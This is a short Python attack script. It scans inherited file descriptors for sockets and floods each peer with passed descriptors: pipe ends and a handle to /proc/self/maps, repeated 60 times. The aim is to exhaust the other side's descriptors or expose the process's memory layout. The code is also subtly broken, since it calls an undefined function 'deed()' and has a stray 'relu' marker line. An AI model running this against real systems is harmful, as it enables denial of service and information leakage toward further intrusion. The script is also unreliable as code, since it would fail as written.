# Passes open files to whoever listens at the other end of the kernel's sockets: its memory, a pipe
# without end, many copies, so that the other side runs out of descriptors or reads from them.
# %% from attacks/parts/stand_ins.py
# %% relu
import os
import socket
import stat


def attack():
    reading, writing = os.pipe()
    passed = [reading, writing, os.open("/proc/self/maps", os.O_RDONLY)] * 60
    sent = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                with socket.socket(fileno=os.dup(fd)) as channel:
                    channel.setblocking(False)
                    sent.append((fd, socket.send_fds(channel, [b"\0" * 4], passed)))
                    deed()
        except OSError:
            pass
    return sent


print(attack())
